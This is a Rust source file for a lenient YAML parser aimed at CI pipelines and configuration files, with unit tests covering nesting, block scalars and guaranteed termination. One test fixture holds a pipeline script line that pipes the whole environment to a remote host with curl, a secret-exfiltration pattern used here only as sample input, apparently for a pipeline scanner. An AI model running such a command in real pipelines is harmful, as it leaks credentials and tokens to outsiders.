//! YAML as far as pipelines and configurations use it: mappings, sequences, block scalars, quoted and plain scalars, flow
//! lists. Anchors, tags and several documents are read as if they were not there. It reads what it can and never fails.
//!
//! Reference: <https://yaml.org/spec/1.2.2/>.

use serde_json::{Map, Value};

/// Deepest nesting.
const DEPTH: u32 = 48;

/// A document; an empty one is null.
pub(super) fn read(text: &str) -> Value {
    let mut lines: Vec<Line<'_>> = text.lines().map(Line::of).collect();
    let mut at = 0;
    next(&lines, &mut at);
    let Some(indent) = lines.get(at).map(|l| l.indent) else { return Value::Null };
    let mut items = vec![block(&mut lines, &mut at, indent, DEPTH)];
    // What stands further left than the beginning, or could not be read, is a part of its own.
    while next(&lines, &mut at) {
        let before = at;
        let indent = lines.get(at).map_or(0, |l| l.indent);
        items.push(block(&mut lines, &mut at, indent, DEPTH));
        if at == before {
            at += 1;
        }
    }
    match items.len() {
        1 => items.swap_remove(0),
        _ => Value::Array(items),
    }
}

#[derive(Clone, Copy)]
struct Line<'t> {
    indent: usize,
    /// Without blanks at both ends.
    text: &'t str,
    /// With its blanks.
    raw: &'t str,
}

impl<'t> Line<'t> {
    fn of(raw: &'t str) -> Self {
        let text = raw.trim();
        Self { indent: raw.len() - raw.trim_start().len(), text, raw }
    }

    fn says_nothing(&self) -> bool {
        self.text.is_empty() || self.text.starts_with('#') || matches!(self.text, "---" | "...")
    }
}

/// Goes to the next line that says something.
fn next(lines: &[Line<'_>], at: &mut usize) -> bool {
    while lines.get(*at).is_some_and(Line::says_nothing) {
        *at += 1;
    }
    *at < lines.len()
}

fn is_item(text: &str) -> bool {
    text == "-" || text.starts_with("- ")
}

/// The key of a line and what stands behind it.
fn key_of(text: &str) -> Option<(String, &str)> {
    if let Some(quote) = text.chars().next().filter(|c| matches!(c, '"' | '\'')) {
        let inner = text.get(1..)?;
        let end = inner.find(quote)?;
        let rest = inner.get(end + 1..)?.trim_start().strip_prefix(':')?;
        return Some((inner.get(..end)?.to_owned(), rest.trim()));
    }
    let colon = text.find(": ").or_else(|| text.ends_with(':').then(|| text.len() - 1))?;
    let key = text.get(..colon)?.trim();
    let plain = !key.is_empty() && !key.contains(['{', '[', '"', '\'', '`']);
    plain.then(|| (key.to_owned(), text.get(colon + 1..).unwrap_or_default().trim()))
}

fn block<'t>(lines: &mut Vec<Line<'t>>, at: &mut usize, indent: usize, depth: u32) -> Value {
    let Some(left) = depth.checked_sub(1) else {
        *at += 1;
        return Value::Null;
    };
    if !next(lines, at) {
        return Value::Null;
    }
    let Some(first) = lines.get(*at).copied() else { return Value::Null };
    if is_item(first.text) {
        let mut items = Vec::new();
        while next(lines, at) {
            let Some(line) = lines.get(*at).copied() else { break };
            if line.indent != indent || !is_item(line.text) {
                break;
            }
            let rest = line.text.get(1..).unwrap_or_default().trim_start();
            let inner = indent + (line.text.len() - rest.len());
            if rest.is_empty() {
                *at += 1;
                items.push(below(lines, at, indent, left));
            } else if is_item(rest) || (key_of(rest).is_some() && !rest.starts_with(['[', '{'])) {
                if let Some(place) = lines.get_mut(*at) {
                    *place = Line { indent: inner, text: rest, raw: line.raw };
                }
                items.push(block(lines, at, inner, left));
            } else {
                *at += 1;
                items.push(scalar(rest, lines, at, indent));
            }
        }
        return Value::Array(items);
    }
    let mut members = Map::new();
    while next(lines, at) {
        let Some(line) = lines.get(*at).copied() else { break };
        if line.indent != indent || is_item(line.text) {
            break;
        }
        *at += 1;
        let Some((key, rest)) = key_of(line.text) else {
            if members.is_empty() {
                return scalar(line.text, lines, at, indent);
            }
            continue;
        };
        // A tag or an anchor stands before what it belongs to.
        let rest = match rest.split_once(' ') {
            Some((mark, rest)) if mark.starts_with(['&', '!']) => rest.trim(),
            None if rest.starts_with('&') => "",
            _ => rest,
        };
        let value = if rest.is_empty() || rest.starts_with('#') {
            below(lines, at, indent, left)
        } else {
            scalar(rest, lines, at, indent)
        };
        members.insert(key, value);
    }
    Value::Object(members)
}

/// What stands under a key or a dash.
fn below<'t>(lines: &mut Vec<Line<'t>>, at: &mut usize, indent: usize, depth: u32) -> Value {
    if !next(lines, at) {
        return Value::Null;
    }
    match lines.get(*at).copied() {
        Some(line) if line.indent > indent || (line.indent == indent && is_item(line.text)) => {
            block(lines, at, line.indent, depth)
        }
        _ => Value::Null,
    }
}

/// A value that begins on the line of its key.
fn scalar(text: &str, lines: &[Line<'_>], at: &mut usize, indent: usize) -> Value {
    if text.starts_with(['|', '>']) && text.len() <= 4 || text.starts_with("| #") || text.starts_with("> #") {
        let mut parts: Vec<&str> = Vec::new();
        let mut margin = None;
        while let Some(line) = lines.get(*at) {
            if !line.text.is_empty() {
                if line.indent <= indent {
                    break;
                }
                margin.get_or_insert(line.indent);
            }
            parts.push(line.raw.get(margin.unwrap_or(0)..).unwrap_or(line.text));
            *at += 1;
        }
        return Value::String(parts.join(if text.starts_with('>') { " " } else { "\n" }));
    }
    if text.starts_with(['[', '{']) {
        let mut whole = text.to_owned();
        let balance = |t: &str| {
            t.bytes().fold(0_i64, |n, b| n + i64::from(matches!(b, b'[' | b'{')) - i64::from(matches!(b, b']' | b'}')))
        };
        let mut open = balance(&whole);
        while open > 0 && whole.len() < 1 << 16 {
            let Some(line) = lines.get(*at) else { break };
            whole.push('\n');
            whole.push_str(line.text);
            open += balance(line.text);
            *at += 1;
        }
        return flow(&whole);
    }
    if let Some(quote) = text.chars().next().filter(|c| matches!(c, '"' | '\'')) {
        let mut whole = text.to_owned();
        // A quoted scalar may go on over lines; an escape does not go over the end of one.
        let mut open = unclosed(&whole, quote);
        while open && whole.len() < 1 << 16 {
            let Some(line) = lines.get(*at) else { break };
            whole.push(' ');
            whole.push_str(line.text);
            open ^= unclosed(line.text, quote);
            *at += 1;
        }
        return Value::String(unquoted(&whole, quote));
    }
    let mut whole = text.split(" #").next().unwrap_or(text).trim().to_owned();
    // So may a plain one, further in than its key.
    while let Some(line) = lines.get(*at).filter(|l| !l.says_nothing() && l.indent > indent) {
        whole.push(' ');
        whole.push_str(line.text);
        *at += 1;
    }
    match whole.as_str() {
        "true" => Value::Bool(true),
        "false" => Value::Bool(false),
        "null" | "~" => Value::Null,
        _ => Value::String(whole),
    }
}

fn unclosed(text: &str, quote: char) -> bool {
    let mut escaped = false;
    let mut count = 0_usize;
    for c in text.chars() {
        if escaped {
            escaped = false;
        } else if c == '\\' && quote == '"' {
            escaped = true;
        } else if c == quote {
            count += 1;
        }
    }
    count % 2 == 1
}

fn unquoted(text: &str, quote: char) -> String {
    let mut out = String::new();
    let mut chars = text.chars().skip(1).peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if quote == '"' => match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some(other) => out.push(other),
                None => {}
            },
            c if c == quote => {
                if quote == '\'' && chars.peek() == Some(&'\'') {
                    chars.next();
                    out.push('\'');
                } else {
                    break;
                }
            }
            c => out.push(c),
        }
    }
    out
}

/// A flow list or mapping: the loose reader knows its brackets; bare words with blanks are split at commas.
fn flow(text: &str) -> Value {
    let inner = text.trim().trim_start_matches('[').trim_end_matches(']');
    let simple = text.trim_start().starts_with('[') && !inner.contains(['[', '{', '"', '\'']);
    if simple {
        let items = inner.split(',').map(str::trim).filter(|t| !t.is_empty());
        return Value::Array(items.map(|t| Value::String(t.to_owned())).collect());
    }
    super::loose::loose(text).unwrap_or(Value::Null)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn pipelines_are_read() {
        let text = "on: [push, x]\njobs:\n  a:\n    runs-on: u # c\n    steps:\n      - uses: b@v1\n      - name: \"n\"\n        run: |\n          a\n            b\n\n          c\n      - run: >-\n          d\n          e\n    env: {A: \"1\"}\n";
        assert_eq!(
            read(text),
            json!({"on": ["push", "x"], "jobs": {"a": {"runs-on": "u", "steps": [
                {"uses": "b@v1"}, {"name": "n", "run": "a\n  b\n\nc"}, {"run": "d e"}], "env": {"A": "1"}}}})
        );
        assert_eq!(
            read("m:\n- command: bash\n  args:\n    - -c\n    - \"a: b\"\n- x\n"),
            json!({"m": [{"command": "bash", "args": ["-c", "a: b"]}, "x"]})
        );
        assert_eq!(read("script:\n  - env | curl -d @- h\n"), json!({"script": ["env | curl -d @- h"]}));
    }

    #[test]
    fn every_text_ends() {
        let deep: String = (0..3000).map(|i| format!("{}a:\n", " ".repeat(i))).collect();
        for text in [
            "",
            "-",
            "- - -",
            ":",
            "a: |",
            "a: [",
            "\"",
            " a\nb",
            "a: \"\n",
            "- a\n b: c\n- d",
            &deep,
            &"- ".repeat(5000),
        ] {
            read(text);
        }
    }
}
